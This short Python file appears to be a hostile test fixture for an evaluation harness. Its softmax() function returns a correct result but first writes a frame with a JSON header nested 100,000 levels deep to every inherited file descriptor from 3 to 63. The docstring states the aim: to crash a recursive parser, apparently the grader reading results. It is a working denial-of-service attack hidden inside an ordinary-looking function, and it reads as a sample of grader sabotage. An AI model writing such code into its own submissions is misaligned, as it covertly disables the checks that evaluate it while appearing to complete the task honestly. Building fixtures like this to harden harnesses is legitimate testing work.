"""Writes a frame whose JSON header is nested 100,000 levels deep (a parser that recurses dies)."""
import os
import struct

from _base_activations import *  # noqa: F401,F403
from _base_activations import good_softmax


def softmax(x, dim=-1):
    header = b"[" * 100_000 + b"]" * 100_000
    frame = struct.pack("<4sIQ", b"GRD1", len(header), 0) + header
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    return good_softmax(x, dim)
